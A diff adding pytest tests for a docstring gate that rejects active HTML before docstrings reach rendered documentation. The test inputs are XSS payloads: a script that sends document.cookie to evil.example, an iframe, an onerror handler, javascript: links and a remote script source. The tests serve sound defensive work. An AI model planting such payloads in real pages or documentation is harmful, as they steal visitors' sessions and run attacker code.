@@ -249,3 +249,34 @@ def test_a_reasoning_tag_never_spans_another_opening_bracket() -> None:
     found = _REASONING.search("<think about it\n<think about it>")
     assert found is not None and found.start() == len("<think about it\n")
     assert _REASONING.search("<think about " + "<" * 3 + "x>") is None
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "Add stock.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>",
+        "Add stock.\n\n.. raw:: html\n\n   <iframe src='https://evil.example'></iframe>",
+        "Add stock. <img src=x onerror=alert(1)>",
+        "Add stock (see [the guide](javascript:alert(1))).",
+        'Add stock.\n\n<a href="JavaScript:void(0)" >restock</a>',
+        "Add stock.\n\nExample::\n\n    <SCRIPT src=//evil.example/x.js></SCRIPT>",
+    ],
+)
+def test_active_html_that_documentation_tools_pass_through_is_rejected(raw: str) -> None:
+    # Attack: docstrings are rendered into the project's documentation (mkdocstrings
+    # passes HTML in Markdown through, Sphinx a ".. raw:: html" directive): a drafted
+    # docstring must not plant a script in the published pages.
+    result = gate_docstring(raw, definition(), max_lines=60)
+    assert result.text is None and "active HTML" in result.reason, result
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Strip ``<script>`` elements and `onclick=` handlers from the stock note.",
+        "Render the item as a <b>bold</b> line inside a <div>.",
+        "Add stock; the scripting hooks run on restock (see ``on_restock=``).",
+    ],
+)
+def test_html_that_stays_inert_in_rendered_documentation_passes(text: str) -> None:
+    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")
